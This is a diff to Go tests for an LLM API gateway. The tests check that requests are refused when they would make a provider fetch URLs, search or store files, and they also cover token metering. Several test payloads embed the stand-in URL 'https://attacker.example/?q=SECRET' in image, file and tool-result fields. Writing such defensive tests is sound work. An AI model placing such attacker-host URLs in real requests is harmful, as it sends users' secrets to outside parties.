@@ -1,9 +1,11 @@
 package gateway
 
 import (
+	"bytes"
 	"encoding/base64"
 	"encoding/json"
 	"errors"
+	"os"
 	"strings"
 	"testing"
 
@@ -11,7 +13,7 @@ import (
 )
 
 func to(k wire.Provider, model string) target {
-	return target{provider: &provider{Provider: Provider{Kind: k}}, Route: wire.Route{Model: model}}
+	return target{provider: &provider{Provider: Provider{Kind: k}}, Route: wire.Route{Form: k.Form(""), Model: model}}
 }
 
 func TestInspect(t *testing.T) {
@@ -89,6 +91,9 @@ func TestInspect(t *testing.T) {
 			k = wire.OpenAI
 		}
 		tt := to(k, c.model)
+		if strings.Contains(c.body, `"input":`) {
+			tt.Form = wire.Responses
+		}
 		f, err := inspect(tt, []byte(c.body))
 		if (err == nil) != (c.want != "") || errors.Is(err, errHidden) != c.hidden {
 			t.Errorf("%s: %v", c.name, err)
@@ -101,6 +106,125 @@ func TestInspect(t *testing.T) {
 		if _, err := inspect(tt, []byte(c.body)); c.hosted && err != nil {
 			t.Errorf("%s: refused although it is granted: %v", c.name, err)
 		}
+	}
+}
+
+// TestNoProviderFetchesOrStores: what a request would have its provider fetch, search, look up or charge otherwise is
+// refused by its name, in every form, also where tokens are only counted. What is granted (Hosted) passes.
+func TestNoProviderFetchesOrStores(t *testing.T) {
+	chat := func(part string) string { return `{"model":"a","messages":[{"role":"user","content":[` + part + `]}]}` }
+	responses := func(item string) string { return `{"model":"a","input":[` + item + `]}` }
+	messages := func(block string) string {
+		return `{"model":"a","messages":[{"role":"user","content":[` + block + `]}]}`
+	}
+	gemini := func(part string) string { return `{"contents":[{"role":"user","parts":[` + part + `]}]}` }
+	const at = `"https://attacker.example/?q=SECRET"`
+	for _, c := range []struct {
+		form   wire.Form
+		body   string
+		named  string
+		hosted bool
+	}{
+		{wire.Chat, chat(`{"type":"image_url","image_url":{"url":` + at + `}}`), "url", true},
+		{wire.Chat, chat(`{"type":"image_url","image_url":` + at + `}`), "imageurl", true},
+		{wire.Chat, chat(`{"type":"text","text":"x"},{"type":"file","file":{"file_data":` + at + `}}`), "filedata", true},
+		{wire.Chat, chat(`{"type":"file","file":{"file_id":"file-1"}}`), "fileid", true},
+		{wire.Chat, chat(`{"type":"document_url","document_url":` + at + `}`), "document_url", true},
+		{wire.Chat, chat(`{"type":"input_audio","input_audio":{"data":` + at + `}}`), "input_audio", true},
+		{wire.Chat, `{"model":"a","web_search_options":{}}`, "websearchoptions", true},
+		{wire.Chat, `{"model":"a","plugins":[{"id":"web"}]}`, "plugins", true},
+		{wire.Chat, `{"model":"a","search_parameters":{"sources":[{"type":"rss","links":[` + at + `]}]}}`, "searchparameters", true},
+		{wire.Chat, `{"model":"a","enable_search":true}`, "enablesearch", true},
+		{wire.Chat, `{"model":"x:online"}`, "x:online", true},
+		{wire.Chat, `{"model":"perplexity/sonar-pro"}`, "sonar", true},
+		{wire.Chat, `{"model":"a","models":["dear"]}`, "models", false},
+		{wire.Chat, `{"model":"a","provider":{"order":["dear"]}}`, "provider", false},
+		{wire.Chat, `{"model":"a","service_tier":"priority"}`, "servicetier", false},
+		{wire.Chat, `{"model":"a","service_tier":"\u0070riority"}`, "servicetier", false},
+		{wire.Chat, `{"model":"a","modalities":["text","audio"]}`, "modalities", false},
+		{wire.Chat, `{"model":"a","extra_body":{}}`, "extrabody", false},
+		{wire.Responses, responses(`{"role":"user","content":[{"type":"input_file","file_url":` + at + `}]}`), "fileurl", true},
+		{wire.Responses, responses(`{"role":"user","content":[{"type":"input_image","Image_URL":` + at + `}]}`), "imageurl", true},
+		{wire.Responses, responses(`{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":` + at + `}]}`), "imageurl", true},
+		{wire.Responses, responses(`{"type":"item_reference","id":"msg_1"}`), "item_reference", true},
+		{wire.Responses, responses(`{"type":"mcp_approval_response","approve":true}`), "mcp_approval_response", true},
+		{wire.Responses, `{"model":"a","prompt":{"id":"p"}}`, "prompt", false},
+		{wire.Messages, messages(`{"type":"image","source":{"type":"url","url":` + at + `}}`), `"url"`, true},
+		{wire.Messages, messages(`{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"url":` + at + `}}]}`), "url", true},
+		{wire.Messages, messages(`{"type":"document","source":{"type":"file","file_id":"f"}}`), `"file"`, true},
+		{wire.Messages, messages(`{"type":"container_upload","file_id":"f"}`), "container_upload", true},
+		{wire.Messages, messages(`{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"type":"web_fetch_20250910","name":"f"}}}`), "web_fetch", true},
+		{wire.Messages, `{"model":"a","container":{"skills":[{"type":"anthropic"}]}}`, "container", true},
+		{wire.Messages, `{"model":"a","speed":"fast"}`, "speed", false},
+		{wire.Messages, `{"model":"a","context_management":{"edits":[{"type":"compact_20260112"}]}}`, "compact_", false},
+		{wire.Messages, `{"model":"a","fallbacks":[{"model":"dear"}]}`, "fallbacks", false},
+		{wire.Messages, `{"model":"a","inference_geo":"us"}`, "inferencegeo", false},
+		{wire.Gemini, gemini(`{"fileData":{"fileUri":` + at + `}}`), "filedata", true},
+		{wire.Gemini, gemini(`{"functionResponse":{"name":"f","response":{"url":` + at + `},"parts":[{"file_data":{"file_uri":` + at + `}}]}}`), "filedata", true},
+		{wire.Gemini, `{"systemInstruction":{"parts":[{"fileData":{}}]}}`, "filedata", true},
+		{wire.Gemini, `{"generationConfig":{"responseModalities":["TEXT","IMAGE"]}}`, "responsemodalities", false},
+		{wire.Gemini, `{"generationConfig":{"routingConfig":{"autoMode":{}}}}`, "routingconfig", false},
+		{wire.Gemini, `{"generateContentRequest":` + gemini(`{"fileData":{"fileUri":`+at+`}}`) + `}`, "filedata", true},
+	} {
+		for _, form := range []wire.Form{c.form, wire.Free} {
+			tt := to(c.form.Provider(), "")
+			if tt.Form = form; tt.Kind == wire.Google {
+				tt.Model = "g"
+			}
+			if form == wire.Free && tt.Kind == wire.OpenAI {
+				continue // it has no such request
+			}
+			if _, err := inspect(tt, []byte(c.body)); !errors.Is(err, errHidden) || !strings.Contains(err.Error(), c.named) {
+				t.Errorf("%s %s: %v", form, c.body, err)
+			}
+			tt.Hosted = true
+			if _, err := inspect(tt, []byte(c.body)); (err == nil) != c.hosted {
+				t.Errorf("%s %s, granted: %v", form, c.body, err)
+			}
+		}
+	}
+	for form, body := range map[wire.Form]string{
+		wire.Chat: chat(`{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"}},{"type":"text","text":` + at + `}`),
+		wire.Responses: responses(`{"type":"function_call","name":"fetch","arguments":"{\"url\":\"https://x\"}"},` +
+			`{"type":"function_call_output","output":[{"type":"input_image","image_url":"data:image/png;base64,AA"}]}`),
+		wire.Messages: messages(`{"type":"tool_use","name":"fetch","input":{"url":` + at + `,"type":"x"}},` +
+			`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA"}}`),
+		wire.Gemini: gemini(`{"functionCall":{"name":"fetch","args":{"fileUri":` + at + `}}},{"inlineData":{"mimeType":"image/png","data":"AA"}}`),
+	} {
+		tt := to(form.Provider(), "g")
+		tt.Form = form
+		if _, err := inspect(tt, []byte(body)); err != nil {
+			t.Errorf("%s: %v", body, err)
+		}
+	}
+}
+
+// TestWhatAgentsSendPasses: the shapes of requests that the programs of the catalog made (texts are cut).
+func TestWhatAgentsSendPasses(t *testing.T) {
+	raw, err := os.ReadFile("testdata/requests.jsonl")
+	if err != nil {
+		t.Fatal(err)
+	}
+	agents := map[string]bool{}
+	for line := range bytes.Lines(raw) {
+		var r struct {
+			Agent, Path string
+			Body        json.RawMessage
+		}
+		if err := json.Unmarshal(line, &r); err != nil {
+			t.Fatal(err)
+		}
+		name, rest, _ := strings.Cut(strings.TrimPrefix(r.Path, "/"), "/")
+		path, _, _ := strings.Cut(rest, "?")
+		tt := target{provider: &provider{Provider: Provider{Kind: wire.Provider(name)}}}
+		tt.Route, _ = tt.Kind.Route("POST", "/"+path)
+		if _, err := inspect(tt, r.Body); err != nil || tt.Form == "" {
+			t.Errorf("%s %s: %v\n%s", r.Agent, r.Path, err, r.Body)
+		}
+		agents[r.Agent] = true
+	}
+	if len(agents) < 6 {
+		t.Errorf("only %v", agents)
 	}
 }
 
@@ -133,16 +257,30 @@ func TestMeter(t *testing.T) {
 			raw: "data: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":5,\"cache_read_input_tokens\":100,\"cache_creation_input_tokens\":10,\"output_tokens\":1}}}\n\n" +
 				"data: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":7}}\n\ndata: {\"type\":\"message_stop\"}\n\n"},
 		{name: "error in the stream", form: wire.Messages, raw: "data: {\"type\":\"error\",\"error\":{}}\n\n", in: 9,
-			out: 1, ended: true, failed: true},
+			out: 12, ended: true, failed: true},
 		{name: "failed response", form: wire.Responses,
-			raw: "data: {\"type\":\"response.failed\",\"response\":{\"usage\":null}}\n\n", in: 9, out: 1, ended: true,
+			raw: "data: {\"type\":\"response.failed\",\"response\":{\"usage\":null}}\n\n", in: 9, out: 20, ended: true,
 			failed: true},
 		{name: "error in the chat", form: wire.Chat, raw: "data: {\"error\":{\"message\":\"x\"}}\r\n\r\n", in: 9,
-			out: 1, failed: true},
+			out: 9, failed: true},
 		{name: "event in two lines", form: wire.Chat,
 			raw: "data: {\"usage\":\ndata: {\"prompt_tokens\":3,\"completion_tokens\":2}}\n\n", in: 3, out: 2},
 		{name: "no figures", form: wire.Chat,
 			raw: "data: {\"choices\":[{\"delta\":{\"tool_calls\":[{\"function\":{\"name\":\"abc\",\"arguments\":\"{{{{{{\"}}]}}]}\n\ndata: [DONE]", in: 9, out: 3, ended: true},
+		{name: "parts, a sound and a call of the old kind", form: wire.Chat, raw: "data: {\"choices\":[{\"delta\":{\"content\":[{\"type\":\"text\",\"text\":\"twelve bytes\"}],\"audio\":{\"data\":\"abc\"},\"function_call\":{\"arguments\":\"def\"}}}]}\n\ndata: [DONE]\n\n", in: 9, out: 6, ended: true},
+		{name: "nothing known", form: wire.Chat, raw: "data: {\"message\":\"" + strings.Repeat("word ", 1000) + "\"}\n\ndata: [DONE]\n\n",
+			in: 9, out: 1670, ended: true},
+		{name: "no JSON", form: wire.Chat, raw: "<html>" + strings.Repeat("word ", 1000), in: 9, out: 1669},
+		{name: "zeros first", form: wire.Chat, raw: "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":0,\"completion_tokens\":0}}\n\n" +
+			"data: {\"choices\":[{\"delta\":{\"content\":\"twelve bytes\"}}]}\n\ndata: [DONE]\n\n", in: 9, out: 4, ended: true},
+		{name: "zeros last", form: wire.Chat, raw: "data: {\"choices\":[{\"delta\":{\"content\":\"twelve bytes\"}}]}\n\n" +
+			"data: {\"choices\":[],\"usage\":{\"prompt_tokens\":0,\"completion_tokens\":0}}\n\ndata: [DONE]\n\n", in: 9, out: 4, ended: true},
+		{name: "an event that is no JSON", form: wire.Chat, raw: "data: {\"choices\":[{\"delta\":{\"content\":\"twelve bytes\"}}]}\n\n" +
+			"data: {" + strings.Repeat("word ", 600) + "\n\ndata: [DONE]\n\n", in: 9, out: 1004, ended: true},
+		{name: "figures, and more behind them", form: wire.Chat, raw: "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":3,\"completion_tokens\":1}}\n\n" +
+			"data: {\"choices\":[{\"delta\":{\"content\":\"twelve bytes\"}}]}\n\ndata: [DONE]\n\n", in: 3, out: 4, ended: true},
+		{name: "a whole answer without figures", form: wire.Chat, raw: "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"content\":\"twelve bytes\"},\"finish_reason\":\"stop\"}]}",
+			in: 9, out: 4, ended: true},
 		{name: "line too long to be read", form: wire.Chat, raw: "data: " + strings.Repeat("{", 2*maxEvent) +
 			"\n\ndata: [DONE]\n\n", in: 9, out: 2 * maxEvent / 3, ended: true},
 	} {
@@ -150,7 +288,7 @@ func TestMeter(t *testing.T) {
 			if size == 1 && len(c.raw) > maxEvent {
 				continue
 			}
-			m := meter{form: c.form, sse: true}
+			m := meter{form: c.form}
 			for raw := []byte(c.raw); len(raw) > 0; raw = raw[min(size, len(raw)):] {
 				m.feed(raw[:min(size, len(raw))])
 			}
@@ -166,19 +304,19 @@ func TestMeter(t *testing.T) {
 
 // FuzzMeter wants no panic and figures within bounds, whatever an endpoint sends and however it is cut.
 func FuzzMeter(f *testing.F) {
-	f.Add("chat", true, []byte("data: {\"choices\":[{\"delta\":{\"content\":\"x\"}}],\"usage\":{\"prompt_tokens\":-5}}\n\ndata: [DONE]\n\n"), 7)
-	f.Add("responses", true, []byte("event: x\r\ndata: {\"type\":\"response.completed\",\"response\":{\"usage\":{\"input_tokens\":1e99}}}\r\n\r\n"), 3)
-	f.Add("messages", true, []byte("data: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":9223372036854775807,\"cache_read_input_tokens\":9}}}\n\n"), 1)
-	f.Add("gemini", false, []byte(`[{"usageMetadata":{"promptTokenCount":3}},null,5]`), 2)
-	f.Fuzz(func(t *testing.T, name string, sse bool, raw []byte, at int) {
-		m := meter{form: wire.Form(name), sse: sse}
+	f.Add("chat", []byte("data: {\"choices\":[{\"delta\":{\"content\":\"x\"}}],\"usage\":{\"prompt_tokens\":-5}}\n\ndata: [DONE]\n\n"), 7)
+	f.Add("responses", []byte("event: x\r\ndata: {\"type\":\"response.completed\",\"response\":{\"usage\":{\"input_tokens\":1e99}}}\r\n\r\n"), 3)
+	f.Add("messages", []byte("data: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":9223372036854775807,\"cache_read_input_tokens\":9}}}\n\n"), 1)
+	f.Add("gemini", []byte(`[{"usageMetadata":{"promptTokenCount":3}},null,5]`), 2)
+	f.Fuzz(func(t *testing.T, name string, raw []byte, at int) {
+		m := meter{form: wire.Form(name)}
 		if at = max(at, 0); at > len(raw) {
 			at = len(raw)
 		}
 		m.feed(raw[:at])
 		m.feed(raw[at:])
 		m.end()
-		whole := meter{form: wire.Form(name), sse: sse}
+		whole := meter{form: wire.Form(name)}
 		whole.feed(raw)
 		whole.end()
 		got, want := m.cost(10), whole.cost(10)
